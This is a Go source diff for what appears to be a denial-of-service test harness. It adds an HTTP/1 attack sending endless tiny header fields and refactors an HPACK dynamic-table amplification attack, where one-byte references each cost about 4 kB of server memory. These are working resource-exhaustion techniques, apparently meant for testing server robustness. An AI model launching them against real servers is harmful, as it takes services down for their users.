@@ -39,58 +39,66 @@ func headerAttacks() []attack {
 			port: detectDeaf, run: longHeaders(150, 8<<20-64<<10),
 		},
 		{
+			Name: "3 tiny-fields", What: "500 HTTP/1 connections with 50,000 tiny header fields each, without an end",
+			port: httpDeaf, run: tinyHeaders(500, 50_000),
+		},
+		{
 			Name: "3 request-line", What: "500 HTTP/1 connections with a request line of 1 MiB, without an end",
 			port: httpDeaf, run: longLine(500, 1<<20),
 		},
 	}
 }
 
-// references makes requests whose header is mostly references to one large field in
-// the table of HPACK: each is a byte on the wire and 4 kB in memory.
+// largeField all but fills the table of HPACK, of 4,096 bytes. Beside it there is the
+// authority.
+func largeField() hpack.HeaderField {
+	return hpack.HeaderField{Name: "x", Value: strings.Repeat("v", 4_096-32-1-64)}
+}
+
+// newest are references to the newest field in the table of HPACK: each is a byte on
+// the wire.
+func newest(number int) []byte { return bytes.Repeat([]byte{0x80 | 62}, number) }
+
+// references makes requests whose header is mostly references to one large field.
 func references(connections, streams, each int) func(context.Context, *attacker) error {
-	return func(ctx context.Context, a *attacker) error {
-		// A table of 4,096 bytes holds a field of 32 bytes less.
-		large := hpack.HeaderField{Name: "x", Value: strings.Repeat("v", 4_096-32-1-64)}
-		return a.each(ctx, connections, func(ctx context.Context) error { return a.refer(ctx, large, streams, each) })
-	}
+	return refer(largeField(), connections, streams, each)
 }
 
 // tinyFields is references to a field that is as small as can be: what counts is
 // what a field costs beside its bytes.
 func tinyFields(connections, streams, each int) func(context.Context, *attacker) error {
-	return func(ctx context.Context, a *attacker) error {
-		tiny := hpack.HeaderField{Name: "x", Value: "1"}
-		return a.each(ctx, connections, func(ctx context.Context) error { return a.refer(ctx, tiny, streams, each) })
-	}
+	return refer(hpack.HeaderField{Name: "x", Value: "1"}, connections, streams, each)
 }
 
-func (a *attacker) refer(ctx context.Context, to hpack.HeaderField, streams, each int) error {
-	h, err := a.dialH2(ctx)
-	if err != nil {
-		return err
+func refer(to hpack.HeaderField, connections, streams, each int) func(context.Context, *attacker) error {
+	return func(ctx context.Context, a *attacker) error {
+		return a.each(ctx, connections, func(ctx context.Context) error {
+			h, err := a.dialH2(ctx)
+			if err != nil {
+				return err
+			}
+			// The first request puts the field into the table, where it stays the
+			// newest: all others of the next requests are there already.
+			first, err := h.fields(to)
+			if err != nil {
+				return err
+			}
+			if _, err := h.request(first, false); err != nil {
+				return h.why(err)
+			}
+			again, err := h.fields()
+			if err != nil {
+				return err
+			}
+			again = append(again, newest(each)...)
+			for range streams {
+				if _, err := h.request(again, false); err != nil {
+					return h.why(err)
+				}
+			}
+			return h.hold(ctx)
+		})
 	}
-	// The first request puts the field into the table, where it stays the newest.
-	fields, err := h.fields(to)
-	if err != nil {
-		return err
-	}
-	if _, err := h.request(fields, false); err != nil {
-		return err
-	}
-	// All other fields of a request are in the static table, or in the other one
-	// with the newest.
-	const newest = 0x80 | 62
-	again, err := h.fields()
-	if err != nil {
-		return err
-	}
-	again = append(again, bytes.Repeat([]byte{newest}, each)...)
-	for range streams {
-		if _, err := h.request(again, false); err != nil {
-			return err
-		}
-	}
-	return h.hold(ctx)
 }
 
 // longHeaders sends a request's header without its end.
@@ -99,6 +107,16 @@ func longHeaders(connections, size int) func(context.Context, *attacker) error {
 		field := fmt.Sprintf("x-%04d: %s\r\n", 0, strings.Repeat("v", 8_000))
 		return a.each(ctx, connections, func(ctx context.Context) error {
 			return a.unended(ctx, fmt.Sprintf("GET / HTTP/1.1\r\nHost: %s\r\n", a.target()), field, size)
+		})
+	}
+}
+
+// tinyHeaders sends as many header fields as there can be in few bytes.
+func tinyHeaders(connections, number int) func(context.Context, *attacker) error {
+	return func(ctx context.Context, a *attacker) error {
+		const field = "x:1\r\n"
+		return a.each(ctx, connections, func(ctx context.Context) error {
+			return a.unended(ctx, fmt.Sprintf("GET / HTTP/1.1\r\nHost: %s\r\n", a.target()), strings.Repeat(field, 100), number*len(field))
 		})
 	}
 }
